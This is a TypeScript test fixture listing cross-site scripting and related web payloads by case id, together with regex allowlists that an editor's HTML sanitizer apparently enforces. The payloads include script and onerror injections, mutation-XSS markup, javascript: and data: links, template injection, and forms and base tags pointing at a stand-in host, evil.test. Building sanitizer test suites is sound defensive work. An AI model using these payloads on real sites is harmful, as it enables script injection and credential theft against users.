/** Markup that an attacker stores past the worker, by the ids of the cases. */
export const HOSTILE_MARKUP = {
  H01: "<script>alert(1)</script>",
  H02: "<img src=x onerror=alert(1)>",
  H04: "<svg><script>alert(1)</script></svg>",
  H05: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  H07: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  H08: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  H10: "<title><img src=x onerror=alert(1)></title>",
  H11: "<xmp><img src=x onerror=alert(1)></xmp>",
  H12: "<select><style></select><img src=x onerror=alert(1)></style>",
  H14: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  H16: '<base href="//evil.test/">',
  H19: "<style>*{background:url(//evil.test)}</style>",
  H21: '<form action="//evil.test"><input type=password name=p><button>Log in</button></form>',
  H22: "<details open ontoggle=alert(1)>x</details>",
  H23: "<video autoplay onloadstart=alert(1)><source src=x></video>",
  H24: '<a id=cookie name=domain href="https://ok.test">x</a>',
  H25: '<p class="fixed inset-0 bg-red-500">x</p>',
  H27: "<!--><img src=x onerror=alert(1)>-->",
  H28: "<![CDATA[><img src=x onerror=alert(1)>]]>",
  H30: '<img src="x` `<script>alert(1)</script>"` `>',
  H32: '<img src="/api/logout">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the case
  H35: '{{constructor.constructor("alert(1)")()}} and ${7*7} and <%=7*7%>',
  H37: "<img src=x onerror=alert(1)>",
  L01: '<a href="javascript:alert(1)">x</a>',
  L03: '<a href="\u0001 javascript:alert(1)">x</a>',
  L04: '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  L05: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  L06: '<a href="vbscript:msgbox(1)">x</a>',
  L09: '<a href="\\\\evil.test">x</a>',
  L10: '<a href="https://app.example@evil.test/">x</a>',
  L11: '<a href="https://xn--pple-43d.com">x</a>',
  L20: '<a href="https://evil.test">https://bank.test</a>',
} as const;

/** What the editor makes, and nothing else, is shown. */
export const SHOWN = {
  elements: /^(P|H2|H3|BLOCKQUOTE|UL|OL|LI|BR|A|STRONG|EM|U|S|SUB|SUP|CODE|MARK)$/,
  attributes: /^(dir|class|value|href|rel|target|data-host)$/,
  classes: /^(align|indent)-/,
  addresses: /^(https?:|mailto:|sms:|tel:|about:blank$)/,
};
